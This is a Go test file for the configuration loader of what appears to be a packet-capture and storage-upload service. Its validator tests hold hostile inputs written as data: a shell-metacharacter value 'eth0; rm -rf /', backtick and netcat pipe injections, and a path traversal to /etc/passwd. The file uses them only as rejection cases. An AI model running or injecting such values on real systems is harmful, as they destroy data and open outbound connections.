package config

import (
	"strings"
	"testing"
)

func setRequiredEnv(t *testing.T) {
	t.Setenv("STORAGE_CONN_STR", "DefaultEndpointsProtocol=https;AccountName=test;AccountKey=dGVzdA==;EndpointSuffix=core.windows.net")
	t.Setenv("STORAGE_ACCOUNT_NAME", "test")
	t.Setenv("OFFSITE_WEBHOOK_URL", "https://example.com/hook")
}

func TestLoadDefaults(t *testing.T) {
	setRequiredEnv(t)

	cfg, err := Load()
	if err != nil {
		t.Fatalf("Load() error = %v", err)
	}
	if cfg.Capture.Interface != "vxlan0" {
		t.Errorf("Interface = %q, want vxlan0", cfg.Capture.Interface)
	}
	if cfg.Capture.RunnerSubnet != "10.10.1.0/24" {
		t.Errorf("RunnerSubnet = %q, want 10.10.1.0/24", cfg.Capture.RunnerSubnet)
	}
	if cfg.Capture.OutputDir != "/tmp/pcaps" {
		t.Errorf("OutputDir = %q, want /tmp/pcaps", cfg.Capture.OutputDir)
	}
	if cfg.Storage.Container != "pcap-staging" {
		t.Errorf("Container = %q, want pcap-staging", cfg.Storage.Container)
	}
	if cfg.Capture.StopTimeoutSeconds != 10 {
		t.Errorf("StopTimeoutSeconds = %d, want 10", cfg.Capture.StopTimeoutSeconds)
	}
	if cfg.Capture.SASExpiryHours != 24 {
		t.Errorf("SASExpiryHours = %d, want 24", cfg.Capture.SASExpiryHours)
	}
	if cfg.Capture.FailurePolicy != FailurePolicyFlag {
		t.Errorf("FailurePolicy = %q, want flag", cfg.Capture.FailurePolicy)
	}
	if cfg.Server.ListenAddr != ":9000" {
		t.Errorf("ListenAddr = %q, want :9000", cfg.Server.ListenAddr)
	}
}

func TestLoadMissingRequired(t *testing.T) {
	tests := []struct {
		name  string
		unset string
	}{
		{"missing storage connection string", "STORAGE_CONN_STR"},
		{"missing storage account", "STORAGE_ACCOUNT_NAME"},
		{"missing webhook URL", "OFFSITE_WEBHOOK_URL"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			setRequiredEnv(t)
			t.Setenv(tt.unset, "")
			if _, err := Load(); err == nil {
				t.Errorf("Load() succeeded without %s", tt.unset)
			}
		})
	}
}

func TestLoadRejectsBadValues(t *testing.T) {
	tests := []struct {
		name  string
		key   string
		value string
	}{
		{"bad subnet", "RUNNER_SUBNET", "not-a-subnet"},
		{"bad v6 subnet", "RUNNER_SUBNET_V6", "10.0.0.0/24/extra"},
		{"bad policy", "UPLOAD_FAILURE_POLICY", "retry"},
		{"non-numeric stop timeout", "STOP_TIMEOUT_SECONDS", "soon"},
		{"zero stop timeout", "STOP_TIMEOUT_SECONDS", "0"},
		{"negative expiry", "SAS_EXPIRY_HOURS", "-1"},
		{"iface with shell metacharacters", "CAPTURE_IFACE", "eth0; rm -rf /"},
		{"iface with spaces", "CAPTURE_IFACE", "eth0 test"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			setRequiredEnv(t)
			t.Setenv(tt.key, tt.value)
			if _, err := Load(); err == nil {
				t.Errorf("Load() accepted %s=%q", tt.key, tt.value)
			}
		})
	}
}

func TestValidateInterfaceName(t *testing.T) {
	tests := []struct {
		name      string
		input     string
		wantError bool
	}{
		{"basic interface", "eth0", false},
		{"decap interface", "vxlan0", false},
		{"vlan subinterface", "eth0.100", false},
		{"dash and underscore", "veth_a-b", false},
		{"empty", "", true},
		{"command injection", "eth0`whoami`", true},
		{"pipe", "eth0|nc evil 1234", true},
		{"path traversal", "../../etc/passwd", true},
		{"too long", strings.Repeat("a", 256), true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := validateInterfaceName(tt.input)
			if (err != nil) != tt.wantError {
				t.Errorf("validateInterfaceName(%q) error = %v, wantError %v", tt.input, err, tt.wantError)
			}
		})
	}
}
